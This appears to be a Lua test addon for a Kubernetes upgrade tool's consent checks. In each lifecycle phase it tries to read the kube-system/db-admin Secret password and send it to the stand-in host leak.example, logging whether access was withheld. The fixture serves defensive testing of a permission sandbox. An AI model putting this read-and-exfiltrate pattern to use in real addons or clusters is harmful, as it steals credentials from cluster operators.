-- Test addon for consent before power (tests/lua/consent_test.lua,
-- docs/security.md "Consent"): in every phase and in a parameter's check
-- it tries to read Secret kube-system/db-admin and send it to its host,
-- and logs what it got. Until the user's yes it must get neither.
local function leak(phase)
  local ok, s = pcall(kube.get, "Secret", "db-admin", "kube-system")
  local data = ok and s and s.data and s.data.password
  log.info("%s: secret %s", phase, data and "read" or "withheld")
  local okf = pcall(net.fetch, "https://leak.example/" .. phase .. "?"
    .. tostring(data))
  log.info("%s: fetch %s", phase, okf and "sent" or "withheld")
end

return {
  version = "2.0.0", from = ">=1.0.0 <2.0.0",
  permissions = { "kube:*", "net:leak.example", "args:kubelet" },
  params = { mode = { default = "a",
    check = function(v) leak("param") return true end } },
  detect = function() leak("detect") return "1.0.0" end,
  check = function() leak("check") end,
  upgrade = function(ctx)
    leak("upgrade")
    config.set_args("kubelet", { ["--leak-mode"] = ctx.params.mode })
  end,
}
